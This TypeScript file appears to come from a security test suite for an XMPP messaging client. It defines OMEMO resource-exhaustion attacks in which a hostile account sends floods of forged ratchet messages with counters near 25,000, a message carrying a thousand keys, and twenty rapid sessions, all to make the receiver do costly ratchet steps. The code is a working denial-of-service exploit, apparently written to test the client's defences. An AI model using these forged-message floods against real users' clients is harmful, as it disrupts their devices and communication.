/**
 * Attack class "OMEMO" over an established session: a message with a forged ratchet key and counter costs the receiver
 * up to 25,000 ratchet steps before the MAC exposes it (finding 7).
 */
import xml, { type Element } from "@xmpp/xml";
import type { BareJid } from "../../../shared/jid.ts";
import { newKeyPair } from "../../../electron/omemo/ratchet/curve.ts";
import { encrypted, OmemoPeer } from "../../peers/omemo-peer.ts";
import { publishedDevices } from "../../peers/omemo-nodes.ts";
import type { Attack, Scene } from "../attack.ts";

/** The largest number of messages that a receiver may have to skip. */
const FAR = 24_999;
const FORGED = 100;

/** Encodes a protobuf varint (base 128). */
function varint(value: number): Uint8Array {
  const bytes: number[] = [];
  for (; value >= 128; value = Math.floor(value / 128)) bytes.push((value % 128) | 128);
  return Uint8Array.from([...bytes, value]);
}

/** A WhisperMessage with a new ratchet key and an invalid rest. */
const forgedKey = (counter: number): Uint8Array =>
  Buffer.concat([
    Uint8Array.of(0x33, 0x0a, 33),
    newKeyPair().publicKey,
    Uint8Array.of(0x10),
    varint(counter),
    Uint8Array.of(0x18),
    varint(0),
    Uint8Array.of(0x22, 48),
    new Uint8Array(48 + 8),
  ]);

/** Gives the hostile account a real device and a session with each device of the victim. */
async function withSession(
  { server, victim, evil }: Scene,
  work: (peer: OmemoPeer, devices: number[]) => Promise<void>,
): Promise<void> {
  const peer = await OmemoPeer.connect({
    jid: evil.jid,
    password: evil.password,
    resource: `omemo-${crypto.randomUUID()}`,
    server,
  });
  try {
    await peer.publish();
    const devices = await publishedDevices(peer.peer, victim.jid);
    if (devices.length === 0) return;
    await peer.say(victim.jid as BareJid, "honest");
    await work(peer, devices);
    // The answer to a later request shows that the server has processed the flood.
    await peer.peer.request(xml("iq", { type: "get", id: crypto.randomUUID() }, xml("ping", "urn:xmpp:ping")));
  } finally {
    await peer.peer.stop();
  }
}

const forged = (peer: OmemoPeer, rid: number, counter: number, keys: number): Element =>
  encrypted({
    sid: peer.id,
    keys: Array.from({ length: keys }, () => ({ rid, prekey: false, data: forgedKey(counter) })),
    iv: new Uint8Array(12),
    payload: new Uint8Array(17),
  });

export const omemo: Attack[] = [
  {
    name: `${FORGED} forged messages over a real session, each with a counter of ${FAR}`,
    where: "direct message",
    send: (scene) =>
      withSession(scene, async (peer, devices) => {
        for (let count = 0; count < FORGED; count++) {
          for (const device of devices) await peer.send(scene.victim.jid as BareJid, forged(peer, device, FAR, 1));
        }
      }),
  },
  {
    name: "a forged message with a thousand keys for the same device",
    where: "direct message",
    send: (scene) =>
      withSession(scene, async (peer, devices) => {
        for (const device of devices) await peer.send(scene.victim.jid as BareJid, forged(peer, device, FAR, 1_000));
      }),
  },
  {
    name: "20 new sessions one after another",
    where: "direct message",
    send: async (scene) => {
      for (let count = 0; count < 20; count++) await withSession(scene, () => Promise.resolve());
    },
  },
];
